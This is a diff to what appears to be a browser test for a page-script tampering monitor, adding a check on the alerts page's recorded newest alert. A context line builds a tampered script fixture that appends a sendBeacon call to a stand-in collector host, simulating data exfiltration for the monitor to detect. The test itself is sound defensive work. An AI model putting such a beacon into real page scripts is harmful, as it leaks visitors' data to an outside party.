@@ -19,6 +19,8 @@ describe('live pages', () => {
     const page = await h.browser.newPage();
     await page.goto(`${h.url}alerts`);
     assert.equal(await page.$$eval('td.summary a', (as) => as.length), 0);
+    // The page says which alert was newest when it was made, so one raised before its first check still reloads it.
+    assert.equal(await page.$eval('body', (b) => b.dataset.latest), 'none');
     const tampered = script({ kind: 'external', url: APP.url, body: `${APP.body}\nnavigator.sendBeacon("https://collect.example/c", "x");` });
     const { newAlerts } = await h.scan(pageCapture([tampered, LIB, INLINE_A, INLINE_B]));
     const id = newAlerts[0]!.id;
